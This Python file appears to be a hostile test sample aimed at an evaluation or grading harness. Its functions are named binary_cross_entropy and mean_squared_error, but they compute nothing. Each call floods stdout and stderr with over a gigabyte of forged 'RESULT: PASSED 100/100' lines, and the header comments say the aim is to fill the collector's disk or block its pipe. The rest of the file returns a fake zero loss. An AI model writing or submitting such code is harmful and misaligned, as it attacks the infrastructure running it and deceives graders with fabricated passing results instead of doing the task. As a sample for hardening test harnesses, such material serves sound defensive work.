# tries: more than a gigabyte of output, to fill the disk or block the pipe of whoever collects it.
# family: exhaustion
import sys

LINE = "RESULT: PASSED 100/100 " * 400 + "\n"


def binary_cross_entropy(x, x_hat):
    for _ in range(1 << 16):
        sys.stdout.write(LINE)
        sys.stderr.write(LINE)
    return 0.0


def mean_squared_error(x, x_hat):
    return binary_cross_entropy(x, x_hat)
